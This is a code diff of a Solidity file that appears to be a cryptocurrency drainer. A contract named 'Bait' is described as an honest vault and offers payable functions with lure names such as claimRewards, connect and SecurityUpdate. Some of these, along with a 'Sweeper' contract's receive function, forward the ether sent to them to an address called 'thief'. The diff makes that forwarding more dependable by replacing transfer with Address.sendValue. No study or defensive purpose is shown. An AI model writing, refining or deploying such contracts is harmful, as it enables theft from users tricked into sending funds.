@@ -4,6 +4,7 @@ pragma solidity 0.8.37;
 import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
+import {Address} from "@openzeppelin/contracts/utils/Address.sol";
 import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
 
 /// An honest vault of any token, at an address that no registry lists.
@@ -70,13 +71,13 @@ contract Bait {
     function claim() external payable {}
 
     function claimRewards() external payable {
-        thief.transfer(msg.value);
+        Address.sendValue(thief, msg.value);
     }
 
     function SecurityUpdate() external payable {}
 
     function connect() external payable {
-        thief.transfer(msg.value);
+        Address.sendValue(thief, msg.value);
     }
 
     function verifyWallet(bytes32) external payable {}
@@ -157,7 +158,7 @@ contract Sweeper {
     }
 
     receive() external payable {
-        thief.transfer(msg.value);
+        Address.sendValue(thief, msg.value);
     }
 
     function sweep(IERC20 token) external {
